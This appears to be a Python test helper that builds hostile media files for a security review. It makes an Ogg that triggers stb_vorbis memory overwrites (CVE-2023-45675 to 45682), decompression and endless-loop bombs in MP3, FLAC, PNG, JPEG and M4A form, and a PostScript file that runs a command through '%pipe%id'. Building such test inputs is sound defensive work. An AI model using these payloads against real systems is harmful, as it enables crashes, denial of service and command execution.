"""Files that do harm to whoever reads them: small ones that become much, crash or never end.

Made after the proofs of the security review (12 to 16).
"""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache
from pathlib import Path

DATA = Path(__file__).parents[1] / "library" / "data"
FRAME = b"\xff\xfb\x90\x00" + bytes(413)
"""A silent frame of an MP3: 128 kbit/s at 44,100 Hz."""


def vorbis_that_overwrites() -> bytes:
    """An Ogg whose second logical stream has 21,249 comments and holds one: stb_vorbis reads it
    and writes beside its memory (CVE-2023-45675 to 45682). Other decoders pass that stream over."""
    seed = (DATA / "tone.ogg").read_bytes()
    end = seed.find(b"OggS", 4)
    packet = (
        b"\x03vorbis"
        + struct.pack("<I", 4) + b"evil"
        + struct.pack("<I", 0x5301)
        + struct.pack("<I", 3) + b"a=b"
    )  # fmt: skip
    return seed[:end] + _page(0x0BADF00D, 1, packet) + seed[end:]


def compressed_tag(mib: int) -> bytes:
    """An MP3 with one compressed comment that unpacks to so many MiB."""
    packer = zlib.compressobj(1)
    body = packer.compress(b"\x03eng\0")
    for _ in range(mib):
        body += packer.compress(b"a" * (1 << 20))
    body += packer.flush()
    size = min(mib << 20, (1 << 28) - 1)
    frame = b"COMM" + seven(len(body) + 4) + b"\0\x09" + seven(size) + body
    return b"ID3\x04\0\0" + seven(len(frame)) + frame + FRAME * 40


@cache
def endless_flac(frames: int) -> bytes:
    """A FLAC of silence: 14 bytes for one and a half seconds."""
    info = (
        struct.pack(">HH", 65535, 65535)
        + bytes(6)
        + ((44100 << 44) | (15 << 36) | (frames * 65535 & (1 << 36) - 1)).to_bytes(8, "big")
        + bytes(16)
    )
    out = [b"fLaC\x80\0\0\x22" + info]
    for number in range(frames):
        head = b"\xff\xf8\x79\x08" + _utf8(number) + struct.pack(">H", 65534)
        head += bytes([_crc(head, 8, 7)])
        frame = head + b"\0\0\x01"
        out.append(frame + struct.pack(">H", _crc(frame, 16, 0x8005)))
    return b"".join(out)


def slow_mp3(seconds: int) -> bytes:
    """Silence at 8 kbit/s and 8,000 Hz: an hour is 3.6 MB."""
    return (b"\xff\xe3\x18\xc4" + bytes(68)) * (seconds * 1000 // 72)


def many_atoms(count: int) -> bytes:
    """An M4A of so many empty parts."""
    inside = b"\0\0\0\x08free" * count
    return b"\0\0\0\x10ftypM4A \0\0\0\0" + struct.pack(">I", 8 + len(inside)) + b"moov" + inside


def png(width: int, height: int) -> bytes:
    """A black picture of so many pixels: a few kilobytes."""
    packer = zlib.compressobj(9)
    row = bytes(width + 1)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(part)) + kind + part + struct.pack(">I", zlib.crc32(kind + part))
        for kind, part in ((b"IHDR", head), (b"IDAT", data), (b"IEND", b""))
    )


def jpeg_of_scans(side: int, scans: int) -> bytes:
    """A JPEG that is drawn over and over again."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (side, side)).save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    last = data.rfind(b"\xff\xda")
    return data[:-2] + data[last:-2] * scans + data[-2:]


POSTSCRIPT = (
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\n"
    b"(%pipe%id) (w) file\n%%EOF\n"
)


def seven(number: int) -> bytes:
    """A number as ID3 has it: seven bits a byte."""
    return bytes(number >> shift & 127 for shift in (21, 14, 7, 0))


def _page(serial: int, number: int, packet: bytes) -> bytes:
    segments = [255] * (len(packet) // 255) + [len(packet) % 255]
    head = b"OggS\0\0" + struct.pack("<qIII", 0, serial, number, 0)
    whole = head + bytes([len(segments)]) + bytes(segments) + packet
    check = 0
    for byte in whole:
        check ^= byte << 24
        for _ in range(8):
            check = (check << 1 ^ 0x04C11DB7 if check >> 31 else check << 1) & 0xFFFFFFFF
    return whole[:22] + struct.pack("<I", check) + whole[26:]


def _utf8(number: int) -> bytes:
    if number < 0x80:
        return bytes([number])
    if number < 0x800:
        return bytes([0xC0 | number >> 6, 0x80 | number & 63])
    return bytes([0xE0 | number >> 12, 0x80 | number >> 6 & 63, 0x80 | number & 63])


def _crc(data: bytes, bits: int, polynomial: int) -> int:
    check, top = 0, 1 << bits - 1
    for byte in data:
        check ^= byte << bits - 8
        for _ in range(8):
            check = (check << 1 ^ polynomial if check & top else check << 1) & (1 << bits) - 1
    return check
